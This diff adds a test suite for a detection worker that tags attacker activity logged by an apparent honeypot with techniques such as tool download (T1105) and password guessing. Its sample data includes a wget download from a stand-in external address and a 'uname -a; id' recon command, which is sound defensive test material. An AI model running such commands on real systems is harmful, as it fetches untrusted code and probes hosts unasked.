@@ -1,0 +1,177 @@
+# SPDX-License-Identifier: MIT
+"""What a batch becomes, on tables of its own: the same whatever the batches, and never twice."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator, Sequence
+from itertools import pairwise
+from typing import Any
+from uuid import UUID
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from sqlalchemy import Connection, create_engine, select
+
+from decnet_core.events.catalogue import CommandRun, HttpRequest, LoginAttempt, Payload
+from decnet_core.events.notices import Notice, TechniqueTagged
+from decnet_models.events.queries import StoredEvent
+from decnet_models.ttp.queries import RuleState, keep_windows, rule_states, set_rule_state, tags, window
+from decnet_models.ttp.tables import metadata
+from decnet_workers.ttp.findings import SWEEP_EVENTS, Findings
+from decnet_workers.ttp.library import SHIPPED, Library, load
+
+LIBRARY = load([SHIPPED])
+SECOND = 1_000_000_000
+DAY = 86_400 * SECOND
+DOWNLOAD = UUID("fb20890c-a169-50e0-984a-08c1227fdd74")
+GUESSING = UUID("31886829-da8b-5de0-8e91-ae086d09780b")
+Stored = Callable[..., StoredEvent]
+Outcome = tuple[dict[str, list[tuple[Any, ...]]], dict[str, Notice]]
+
+WGET = CommandRun(service="ssh", command="wget http://198.51.100.7/x")
+FAILED = LoginAttempt(service="ssh", username="root", password="x", success=False)
+
+PAYLOADS = st.sampled_from(
+    [
+        WGET,
+        CommandRun(service="ssh", command="uname -a; id"),
+        *[LoginAttempt(service="ssh", username=name, password="x", success=False) for name in "abcdefg"],
+        *[HttpRequest(method="GET", target=f"/{page}", status=404) for page in range(4)],
+    ]
+)
+LOGS = st.lists(
+    st.tuples(PAYLOADS, st.integers(0, 400), st.sampled_from(["192.0.2.1", "2001:db8::1", None]), st.booleans()),
+    max_size=40,
+)
+
+
+@pytest.fixture(scope="module")
+def database() -> Iterator[Connection]:
+    engine = create_engine("sqlite://")
+    with engine.connect() as made:
+        metadata.create_all(made)
+        made.commit()
+        yield made
+    engine.dispose()
+
+
+def look(connection: Connection, batches: Sequence[Sequence[StoredEvent]], library: Library = LIBRARY) -> Outcome:
+    """Return all rows, and the notices as the outbox keeps them: the first of each key."""
+    outbox: dict[str, Notice] = {}
+    for batch in batches:
+        findings = Findings(connection, library)
+        for stored in batch:
+            findings.look_at(stored)
+        for key, notice in findings.write():
+            outbox.setdefault(key, notice)
+    rows = {
+        table.name: sorted(tuple(map(str, row)) for row in connection.execute(select(table)))
+        for table in metadata.sorted_tables
+    }
+    return rows, outbox
+
+
+def numbers(connection: Connection, rule: UUID) -> list[int]:
+    return sorted(tag.seq for tag in tags(connection, limit=1000) if tag.rule_id == rule)
+
+
+@given(LOGS, st.sets(st.integers(0, 40)))
+def test_tables_and_notices_do_not_depend_on_batches(
+    database: Connection, stored: Stored, log: list[tuple[Payload, int, str | None, bool]], cuts: set[int]
+) -> None:
+    events = [
+        # Row numbers run over a multiple of SWEEP_EVENTS, so that windows are swept in between.
+        stored(SWEEP_EVENTS - 5 + n, payload, ts=s * SECOND, src_ip=source, session="s" if in_session else None)
+        for n, (payload, s, source, in_session) in enumerate(log)
+    ]
+    edges = sorted({0, len(events)} | {cut for cut in cuts if cut < len(events)})
+    set_rule_state(database, RuleState(DOWNLOAD, "capped", cap=2), now_ns=0)
+    whole = look(database, [events])
+    database.rollback()
+    set_rule_state(database, RuleState(DOWNLOAD, "capped", cap=2), now_ns=0)
+    assert look(database, [events[a:b] for a, b in pairwise(edges)]) == whole
+    database.rollback()
+
+
+def test_the_same_events_again_change_nothing(connection: Connection, stored: Stored) -> None:
+    events = [stored(1, WGET), stored(2, WGET, session="s")]
+    assert look(connection, [events]) == look(connection, [events])
+
+
+def test_a_tag_says_what_where_and_who(connection: Connection, stored: Stored) -> None:
+    look(connection, [[stored(7, WGET, session="f00")]])
+    (tag,) = [tag for tag in tags(connection) if tag.rule_id == DOWNLOAD]
+    assert (tag.technique, tag.title, tag.level) == ("T1105", "Tool fetched from outside", "high")
+    assert (tag.attacker, tag.decky, tag.session, tag.seq, tag.ts) == ("192.0.2.1", "web", "f00", 7, 7 * SECOND)
+    assert tag.event_id == UUID(int=7)
+
+
+def test_one_notice_per_session_and_else_per_day(connection: Connection, stored: Stored) -> None:
+    events = [
+        *[stored(n, WGET, session="one") for n in (1, 2)],
+        stored(3, WGET, session="two"),
+        *[stored(n, WGET, ts=ts) for n, ts in ((4, 0), (5, DAY - 1), (6, DAY))],
+    ]
+    _, outbox = look(connection, [events[:1], events[1:]])
+    told = [n for n in outbox.values() if isinstance(n, TechniqueTagged) and n.rule == str(DOWNLOAD)]
+    assert [(notice.session, notice.ts) for notice in told] == [
+        ("one", SECOND),
+        ("two", 3 * SECOND),
+        (None, 0),
+        (None, DAY),
+    ]
+
+
+def test_nobodys_events_are_not_tagged(connection: Connection, stored: Stored) -> None:
+    rows, outbox = look(connection, [[stored(1, WGET, src_ip=None)]])
+    assert rows["ttp_tag"] == []
+    assert outbox == {}
+
+
+def test_five_failures_are_one_finding_and_ten_are_two(connection: Connection, stored: Stored) -> None:
+    look(connection, [[stored(n, FAILED)] for n in range(1, 12)])
+    assert numbers(connection, GUESSING) == [5, 10]
+    assert {tag.rule_id for tag in tags(connection)} == {GUESSING}, "a counted rule tags nothing by itself"
+
+
+def test_failures_of_two_addresses_are_not_added_up(connection: Connection, stored: Stored) -> None:
+    look(connection, [[stored(n, FAILED, src_ip=f"192.0.2.{n % 2}") for n in range(8)]])
+    assert numbers(connection, GUESSING) == []
+
+
+def test_a_disabled_rule_tags_nothing_until_its_time_is_over(connection: Connection, stored: Stored) -> None:
+    set_rule_state(connection, RuleState(DOWNLOAD, "disabled", expires_at=3 * SECOND), now_ns=0)
+    look(connection, [[stored(n, WGET) for n in (1, 2, 3, 4)]])
+    assert numbers(connection, DOWNLOAD) == [3, 4]
+
+
+def test_a_disabled_rule_is_not_counted(connection: Connection, stored: Stored) -> None:
+    set_rule_state(connection, RuleState(GUESSING, "disabled"), now_ns=0)
+    rows, _ = look(connection, [[stored(n, FAILED) for n in range(10)]])
+    assert numbers(connection, GUESSING) == []
+    assert not [row for row in rows["ttp_window"] if row[0] == str(GUESSING)]
+
+
+def test_a_capped_rule_tags_so_many_events_of_an_attacker_a_day(connection: Connection, stored: Stored) -> None:
+    set_rule_state(connection, RuleState(DOWNLOAD, "capped", cap=2), now_ns=0)
+    times = [0, 1, 2, 3, DAY, DAY + 1, DAY + 2]
+    look(connection, [[stored(n, WGET, ts=ts)] for n, ts in enumerate(times)])
+    look(connection, [[stored(10, WGET, ts=5, src_ip="192.0.2.2")]])
+    assert numbers(connection, DOWNLOAD) == [0, 1, 4, 5, 10]
+
+
+def test_enabled_again_a_rule_has_no_state(connection: Connection) -> None:
+    set_rule_state(connection, RuleState(DOWNLOAD, "capped", cap=2, reason="noisy"), now_ns=0)
+    assert rule_states(connection) == {DOWNLOAD: RuleState(DOWNLOAD, "capped", cap=2, reason="noisy")}
+    set_rule_state(connection, RuleState(DOWNLOAD, "enabled"), now_ns=0)
+    assert rule_states(connection) == {}
+
+
+def test_windows_that_ran_out_are_swept(connection: Connection, stored: Stored) -> None:
+    key = (GUESSING, "0123456789abcdef")
+    keep_windows(connection, {key: (((SECOND, "a"),), SECOND)})
+    look(connection, [[stored(SWEEP_EVENTS - 1, WGET)]])
+    assert window(connection, key)
+    look(connection, [[stored(SWEEP_EVENTS, WGET)]])
+    assert not window(connection, key)
